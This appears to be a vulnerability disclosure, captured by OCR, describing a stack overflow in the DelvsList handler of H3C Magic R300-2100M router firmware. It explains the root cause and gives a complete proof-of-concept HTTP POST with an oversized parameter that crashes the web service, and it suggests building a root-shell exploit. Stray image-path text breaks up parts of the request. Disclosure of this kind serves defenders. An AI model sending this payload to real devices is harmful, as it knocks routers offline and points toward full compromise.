# H3C Magic R300-2100M was discovered stack overflow via the DelvsList interface at /goform/aspForm ###### tags: `H3C` `Magic R300-2100M` vendor:H3C product:Magic R300-2100M version:R300-2100MV100R004 type:Stack Overflow author:Yifeng Li,Wolin Zhuang; ## VulnerabilityDescription H3C Magic R300-2100M firmware version R300-2100MV100R004 was discovered to contain a stack overflow via the DelvsList interface at /goform/aspForm. ## Vulnerability Details In function DelvsList,the size of local variable v6 is noly 16 bytes long.Parameters in the DelvsList interface use the getElement function to split strings(Var) and get items. ![](https://i.imgur.com/LCb0yxd.png) ![](https://i.imgur.com/dtJI92p.png) In line 28, the maximum size in the getElement function is limited to 64. When the length of input less than 64, the string will be copied into a1 by memcpy function. The size of the original array has been completely exceeded, resulting in a buffer overflow vulnerability. ![](https://i.imgur.com/MjBbyN0.png) ## Recurring vulnerabilities and POC In order to reproduce the vulnerability, the following steps can be followed: 1. Upgrade router Magic_R300-2100M to newest firmware(we have a physical machine) 2. Login to as admin 3. Attack with the following POC ![](https://i.imgur.com/PpMbygV.png) ![](https://i.imgur.com/fWslGFH.png) ``` POST /goform/aspForm HTTP/1.1 Host: Cache-Control: max-age=0 Upgrade-Insecure-Requests: 1 User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/107.0.5304.107 Safari/537.36 Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.9 Referer: Accept-Encoding: gzip, deflate Accept-Language: zh-CN,zh;q=0.9 Cookie:USERLOGINIDFLAG=; LOGIN_PSD_REM_FLAG= Connection: close Content-Length: 321CMD=DelvsList&GO=dhcpd.asp&param=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; ``` By sending delicately constructed data package as the poc above, we can cause a stack overflow error, leading to the crash of webs progress.![](https://i.imgur.com/oOVNgxA.png) And youcan write your own exp to get the root shell.